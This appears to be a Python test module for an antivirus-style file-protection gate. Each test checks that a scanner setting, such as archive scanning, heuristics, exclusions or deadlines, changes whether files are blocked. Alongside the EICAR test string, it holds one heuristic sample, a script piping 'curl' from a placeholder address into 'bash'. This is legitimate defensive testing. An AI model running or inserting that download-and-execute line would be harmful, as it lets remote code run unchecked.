"""Each setting of file protection changes what the real gate does, on a volume of its own."""

import hashlib
import io
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from garrison import sdk
from garrison.components.file_protection.planning import left_out, places_of, plan_of
from garrison.components.file_protection.settings import FileProtectionSettings
from garrison.wire.guarding import Found, Occasion, Unexamined
from tests.components.file_protection import test_component, test_planning, test_settings
from tests.engine.samples import EICAR
from tests.gate.live import Live, database, is_denied, is_running, skip_unless_possible, volume, wait_until

PROGRAM = Path(shutil.which("true") or "/bin/true").resolve().read_bytes() + b"harmful"  # still runs
PICTURE = b"\xff\xd8\xff" + b"harmful" * 100
LARGE = b"harmful" * 300_000  # 2 MiB
KNOWN = b"".join(
    f"{hashlib.sha256(content).hexdigest()}:{len(content)}:Test.{name}:test\n".encode()
    for name, content in (("Program", PROGRAM), ("Picture", PICTURE), ("Large", LARGE))
)
DOUBTFUL = b"#!/bin/sh\ncu" + b"rl -s http://192.0.2.1/a.sh | ba" + b"sh\n"
BELOW = "below"  # a folder on the volume
# Settings that are proved in other files, by the tests there.
ELSEWHERE = {
    "enabled": (test_component, "test_no_longer_watched_is_no_longer_refused"),
    "scope": (test_planning, "test_what_is_watched"),  # everything would be the tester's own computer
    "level": (test_settings, "test_a_level_sets_its_details"),
    "pause_while": (test_component, "test_it_pauses_while_a_named_program_runs"),
}


@pytest.fixture(scope="module")
def disk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with volume(tmp_path_factory.mktemp("disk"), "tmpfs") as mounted:
        yield mounted


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    skip_unless_possible()
    folder = tmp_path_factory.mktemp("gate")
    running = Live(folder, database(folder, KNOWN))
    try:
        yield running
    finally:
        running.end()


class Place:
    """A fresh folder on the volume, and the gate that goes by settings."""

    def __init__(self, live: Live, disk: Path) -> None:
        self.live = live
        self.disk = disk
        self.folder = Path(tempfile.mkdtemp(dir=disk))
        self._databases = live.plan.examining.databases

    def write(self, name: str, content: bytes = EICAR) -> Path:
        path = self.folder / name
        path.write_bytes(content)
        return path

    def go_by(self, **settings: Any) -> None:
        """Have the gate do what settings say; whatever they leave open is as usual, but the volume is watched."""
        wanted = FileProtectionSettings(**{"scope": "chosen", "mounts": [self.disk], **settings})
        plan = plan_of(wanted, places_of(wanted, is_system=True), left_out(wanted, []), observes=False)
        plan = replace(plan, examining=replace(plan.examining, databases=self._databases))
        old = self.live.below() if plan.examining != self.live.plan.examining else []
        self.live.go_by(plan)
        wait_until(lambda: not any(map(is_running, old)))  # until then files may be examined as before


Proof = Callable[[Place, Any], bool]


def denies(name: str, content: bytes = EICAR, **others: Any) -> Proof:
    """Return what tells whether a file is refused when a setting has a value, and others theirs."""

    def proof(place: Place, setting: dict[str, Any]) -> bool:
        path = place.write(name, content)
        place.go_by(**others, **setting)
        return is_denied(path)

    return proof


def refuses_to_run(place: Place, setting: dict[str, Any]) -> bool:
    program = place.write("program", PROGRAM)
    program.chmod(0o755)
    place.go_by(on_open=False, **setting)
    try:
        subprocess.run([program], check=True)
    except PermissionError:
        return True
    return False


def finds_what_was_written(place: Place, setting: dict[str, Any]) -> bool:
    place.go_by(**setting)
    path = place.write("written")
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        place.live.hear(0.1)
        if any(isinstance(fact, Found) and fact.path == str(path) for fact in place.live.facts):
            place.live.wait_for(Found, lambda fact: fact.occasion is Occasion.CHANGE)
            return True
    return False


def keeps_waiting(place: Place, setting: dict[str, Any]) -> bool:
    return waited_and_denied(place, setting)[0] > 1.5


def refuses_when_late(place: Place, setting: dict[str, Any]) -> bool:
    return waited_and_denied(place, {"deadline_seconds": 1, **setting})[1]


def waited_and_denied(place: Place, setting: dict[str, Any]) -> tuple[float, bool]:
    path = place.write("late", b"harmless")
    place.go_by(**setting)
    stopped = place.live.below()
    for process in stopped:
        os.kill(process, signal.SIGSTOP)
    try:
        began = time.monotonic()
        denied = is_denied(path)
        took = time.monotonic() - began
    finally:
        for process in filter(is_running, stopped):
            os.kill(process, signal.SIGCONT)
    place.live.wait_for(Unexamined, lambda fact: fact.why == "late")
    return took, denied


def refuses_elsewhere_too(place: Place, setting: dict[str, Any]) -> bool:
    """Return whether what lies beside a chosen folder is refused as well as what lies in it."""
    beside, below = place.write("beside"), place.disk / BELOW
    below.mkdir(exist_ok=True)
    (below / "evil").unlink(missing_ok=True)
    (below / "evil").write_bytes(EICAR)
    place.go_by(**{"folders": [below], "mounts": [], **setting})
    assert is_denied(below / "evil")
    return is_denied(beside)


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("evil.com", EICAR)
    return buffer.getvalue()


def slow() -> bytes:
    """Return an archive that takes some seconds to come to the end of, where the threat is."""
    buffer, block = io.BytesIO(), random.Random(1).randbytes(1 << 19).hex().encode()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(60):
            archive.writestr(f"{number}.txt", b"%d" % number + block)
        archive.writestr("evil.com", EICAR)
    return buffer.getvalue()


# For each setting how it is seen, a value with which that is so, and one with which it is not.
PROVED: dict[str, tuple[Proof, Any, Any]] = {
    "on_open": (denies("evil"), True, False),
    "on_run": (refuses_to_run, True, False),
    "on_change": (finds_what_was_written, True, False),
    "archives": (denies("evil.zip", zipped()), True, False),
    "types": (denies("picture.com", PICTURE), "all", "format"),
    "heuristics": (denies("doubtful.sh", DOUBTFUL), "deep", "medium"),
    "skip_over_mib": (denies("large", LARGE), 64, 1),
    "seconds_per_object": (denies("slow.zip", slow(), archives=True, deadline_seconds=60), 60, 1),
    "deadline_seconds": (keeps_waiting, 2, 1),
    "late": (refuses_when_late, "deny", "allow"),
    "action": (denies("evil"), "block", "tell"),
    "exclude_masks": (denies("evil.skip"), ["*.other"], ["*.skip"]),
    "exclude_names": (denies("evil"), ["Other-*"], ["EICAR-*"]),
    "exclude_hashes": (denies("evil"), ["0" * 64], [hashlib.sha256(EICAR).hexdigest().upper()]),
    "trusted_programs": (denies("evil"), ["/usr/bin/other"], [os.path.realpath(sys.executable)]),
    "mounts": (refuses_elsewhere_too, ["."], []),
    "folders": (refuses_elsewhere_too, ["."], [BELOW]),
}


@pytest.mark.parametrize("name", PROVED)
def test_a_setting_does_what_it_says(live: Live, disk: Path, name: str) -> None:
    proof, with_it, without_it = PROVED[name]
    for value, expected in ((with_it, True), (without_it, False)):
        known = [disk / each for each in value] if name in {"mounts", "folders"} else value
        assert proof(Place(live, disk), {name: known}) is expected


def test_names_count_when_types_go_by_them(live: Live, disk: Path) -> None:
    for name, denied in (("evil.com", True), ("evil.skipped", False)):
        assert denies(name)(Place(live, disk), {"types": "extension"}) is denied


def test_no_setting_is_without_a_proof() -> None:
    assert {*PROVED, *ELSEWHERE} == set(FileProtectionSettings.model_fields)
    assert not set(PROVED) & set(ELSEWHERE)
    assert "enabled" in sdk.Settings.model_fields
    for module, test in ELSEWHERE.values():
        assert callable(getattr(module, test))
